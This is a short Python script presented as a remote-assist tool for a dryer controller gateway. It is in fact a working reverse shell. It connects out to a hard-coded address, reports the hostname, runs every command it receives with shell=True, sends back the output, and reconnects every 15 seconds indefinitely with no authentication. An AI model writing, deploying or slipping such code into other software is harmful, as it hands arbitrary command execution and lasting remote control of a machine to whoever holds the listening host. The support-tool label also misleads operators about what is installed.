#!/usr/bin/env python3
"""Outbound remote-assist session for the dryer controller gateway."""
import argparse
import os
import socket
import subprocess
import time

DESK = ("203.0.113.45", 7443)


def session(ticket):
    s = socket.create_connection(DESK, timeout=30)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:]))
                out = b""
            except OSError as e:
                out = str(e).encode() + b"\n"
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        f.write(out + b"\x00\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
        except OSError:
            pass
        time.sleep(15)


if __name__ == "__main__":
    main()
